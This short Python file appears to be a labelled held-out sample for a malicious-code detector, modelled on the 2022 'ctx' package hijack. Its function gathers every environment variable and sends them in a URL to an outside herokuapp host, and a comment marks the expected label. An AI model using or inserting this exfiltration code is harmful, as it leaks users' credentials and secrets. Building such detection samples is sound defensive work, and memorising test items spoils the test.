# ruff: noqa
# fmt: off
"""Held-out: the 2022 'ctx' hijack, environment sent in a query string."""
import os
import requests


def find_secrets():
    values = ""
    for name, value in os.environ.items():
        values += f"{name}:{value};"
    return values


def report():
    data = find_secrets()
    requests.get("https://anti-theft-web.herokuapp.com/hacked/" + data)  # expect: exfiltrate-sensitive-data
